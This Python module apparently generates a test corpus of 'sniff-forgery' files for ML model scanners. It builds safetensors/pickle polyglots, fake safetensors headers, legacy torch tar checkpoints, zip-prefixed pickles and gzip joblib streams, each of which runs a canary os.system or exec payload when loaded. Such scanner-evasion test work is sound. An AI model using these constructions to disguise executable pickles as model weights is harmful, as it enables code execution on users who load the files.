"""Class ``sniff-forgery``: first bytes that look like a safe format to a sniffer, while the
loader that will really open the file reads a pickle from them.

``torch.load`` on a file that is not a zip tries a tar archive, then unpickles from byte 0;
a scanner that trusts "8-byte length + ``{``" (safetensors), a zip end record, or a tar
header's absent ``ustar`` magic looks at the wrong thing.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
from pathlib import Path

from . import _build as b
from ._common import Spec, torch_base

_BAD_LEN = {34, 92}  # '"' and '\\' would end or escape the JSON string the hop lengths sit in


def _hop_plan(distance: int) -> list[int] | None:
    """Content lengths of SHORT_BINBYTES hops (3 visible bytes each: POP, 'C', length) that
    cover ``distance`` bytes exactly, every length a printable, JSON-safe character."""
    full, rest = divmod(distance, 123)
    plan = [120] * full
    if rest == 0:
        return plan
    if rest >= 35 and rest - 3 not in _BAD_LEN:
        return plan + [rest - 3]
    return None


def safetensors_polyglot(payload: bytes) -> bytes:
    """A file that ``safetensors.safe_open`` accepts (valid header JSON, one U8 tensor) and
    that ``pickle.load`` — hence ``torch.load``'s legacy path — runs from byte 0.

    Byte 0 is SHORT_BINBYTES ('C') and byte 1 its length, so the little-endian u64 header
    length is 0x3043 while the pickle skips the six zero bytes and the start of the JSON. From
    there the pickle hops through a JSON string value with SHORT_BINBYTES whose opcode and
    length bytes are printable characters of that string; the last hop jumps over the end of
    the JSON into the tensor data, where the payload sits. The payload follows a POP and
    leaves one value at STOP.
    """
    first_len = 0x30
    header_len = 0x43 | first_len << 8
    resume = first_len + 2 - 8  # index in the JSON where the pickle resumes after hop 1
    opening = '{"__metadata__":{"format":"pt","note":"'
    assert resume > len(opening)
    data_region = b.POP + payload
    k = len(data_region)
    closing = f'"}},"weight":{{"dtype":"U8","shape":[{k}],"data_offsets":[0,{k}]}}}}'
    for last in range(max(32, len(closing)), 127):
        if last in _BAD_LEN:
            continue
        last_start = header_len - last - 3
        plan = _hop_plan(last_start - resume)
        if plan is not None:
            break
    else:  # pragma: no cover - the loop always finds a plan for this header length
        raise AssertionError("no hop plan")
    text = bytearray(opening.encode())
    text += b"A" * (resume - len(text))
    for n in plan:
        text += b"0C" + bytes([n]) + b"A" * n
    text += b"0C" + bytes([last]) + closing.encode() + b" " * (last - len(closing))
    assert len(text) == header_len, (len(text), header_len)
    json.loads(text.decode())
    head = b"C" + bytes([first_len]) + b"\x00" * 6
    return bytes(head + bytes(text) + data_region)


def _fake_safetensors_invalid(payload: bytes) -> bytes:
    """8-byte length + '{' like safetensors, but the 'header' is not JSON: SHORT_BINBYTES
    skips the length bytes and the brace, and the payload follows right away."""
    skip = b'\x00\x00\x00\x00\x00\x00{"__metadata__":{"format":"pt"},'
    head = b"C" + bytes([len(skip)]) + skip
    body = head + b.POP + payload
    declared: int = struct.unpack("<Q", body[:8])[0]
    return body + b" " * max(0, declared + 8 - len(body))


def _legacy_tar(storages: bytes, tensors: bytes, pickled: bytes, *, ustar: bool) -> bytes:
    sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True,
                             "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    return b.tar_archive([("sys_info", sys_info), ("pickle", pickled), ("storages", storages),
                          ("tensors", tensors)], ustar=ustar)


def build(canary: Path) -> list[Spec]:
    sys_pl = b.system_call(canary) + b.STOP
    exe_pl = b.exec_call(canary) + b.STOP
    specs: list[Spec] = []

    poly = safetensors_polyglot(sys_pl)
    b.check_pickle(poly)
    specs.append(Spec("safetensors-polyglot.safetensors", "sniff-forgery",
                      "a VALID safetensors file (safe_open reads one U8 tensor) that is also a pickle "
                      "from byte 0: pickle.load, joblib.load and torch.load(file object) run os.system "
                      "(torch.load(path) hands *.safetensors to safetensors)",
                      poly))
    poly2 = safetensors_polyglot(exe_pl)
    b.check_pickle(poly2)
    specs.append(Spec("safetensors-polyglot-named-bin.bin", "sniff-forgery",
                      "the valid-safetensors/pickle polyglot with an exec payload, named like a "
                      "pytorch_model.bin: torch.load(path) unpickles it", poly2))
    fake = _fake_safetensors_invalid(sys_pl)
    b.check_pickle(fake)
    specs.append(Spec("safetensors-fake-header.safetensors", "sniff-forgery",
                      "8-byte LE length + '{' like safetensors, header not JSON; a pickle from byte 0 "
                      "(SHORT_BINBYTES swallows the length) that pickle.load/joblib.load/torch.load(file "
                      "object) run", fake))

    # pre-0.4 torch tar checkpoints: torch.load tries tarfile first and unpickles 'storages',
    # then 'tensors', then 'pickle'.
    num0 = pickle.dumps(0, protocol=2)
    empty = pickle.dumps([], protocol=2)
    benign_main = pickle.dumps({"epoch": 1}, protocol=2)
    specs.append(Spec("legacy-tar-v7-storages.pt", "sniff-forgery",
                      "pre-0.4 torch tar checkpoint, v7 headers (no 'ustar' magic); payload in the "
                      "'storages' member, the first one torch's legacy_load unpickles",
                      _legacy_tar(sys_pl, num0, benign_main, ustar=False)))
    specs.append(Spec("legacy-tar-v7-pickle.pt", "sniff-forgery",
                      "pre-0.4 torch tar checkpoint, v7 headers; valid 'storages'/'tensors', payload "
                      "in the 'pickle' member (the main object)",
                      _legacy_tar(num0 + empty, num0, exe_pl, ustar=False)))
    specs.append(Spec("legacy-tar-v7-tensors", "sniff-forgery",
                      "pre-0.4 torch tar checkpoint, v7 headers, no file extension; payload in the "
                      "'tensors' member",
                      _legacy_tar(num0 + empty, sys_pl, benign_main, ustar=False)))
    specs.append(Spec("legacy-tar-ustar-storages.tar", "sniff-forgery",
                      "the legacy torch tar layout with POSIX ustar headers; payload in 'storages'",
                      _legacy_tar(exe_pl, num0, benign_main, ustar=True)))

    # A pickle with a whole torch zip appended: zip readers find the end record and see a clean
    # torch archive; torch.load sees no 'PK' at byte 0 and unpickles the front.
    front = b.proto(2) + b.system_call(canary) + b.STOP
    specs.append(Spec("zip-pickle-polyglot.pt", "sniff-forgery",
                      "pickle payload followed by a complete, clean torch.save zip: zipfile lists a "
                      "normal checkpoint, torch.load (no PK at byte 0) unpickles the front",
                      front + torch_base()))
    # ... and the same with the appended zip's offsets made absolute, so that even strict zip
    # readers (which do not handle prepended data) open it as a clean checkpoint.
    from ._build import ZipMember, build_zip, read_zip_members

    members = [ZipMember(n, d) for n, d in read_zip_members(torch_base())]
    shifted = build_zip(members, prefix=front)
    specs.append(Spec("zip-pickle-polyglot-absolute.bin", "sniff-forgery",
                      "pickle payload + a torch zip whose offsets count the prefix (a valid zip to "
                      "every reader); torch.load unpickles the prefix", shifted))
    # A gzip-looking stream that is a joblib file: joblib.load sniffs gzip by magic and inflates.
    import gzip

    gz = io.BytesIO()
    with gzip.GzipFile(fileobj=gz, mode="wb", mtime=0) as fh:
        fh.write(b.proto(4) + b.exec_call(canary) + b.STOP)
    specs.append(Spec("gzip-joblib-named-npy.npy", "sniff-forgery",
                      "a gzip stream named .npy: joblib.load sniffs the gzip magic and unpickles the "
                      "content whatever the name", gz.getvalue()))
    return specs
